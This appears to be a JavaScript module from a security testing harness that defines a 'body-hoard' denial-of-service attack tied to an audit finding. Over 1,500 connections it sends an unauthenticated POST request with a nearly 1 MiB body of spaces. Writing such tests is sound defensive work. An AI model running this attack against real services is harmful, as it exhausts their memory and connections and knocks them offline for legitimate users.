import { defineAttack } from '../attack.js'
import { line } from '../flood.js'
import { hoard } from '../hoard.js'

const length = 1_048_576
const head = `POST /api/v1/id-tags HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n\r\n`
const body = Buffer.alloc(length - 1, 0x20)

export const bodyHoard = defineAttack({
  name: 'body-hoard',
  finding: 'M3',
  does: 'A stranger without a key sends 1 MiB less a byte as the body of a request over 1,500 connections.',
  run: (attacker) =>
    hoard(attacker, 1_500, head, async (socket) => {
      await line(attacker, body.length)
      socket.write(body)
    }),
})
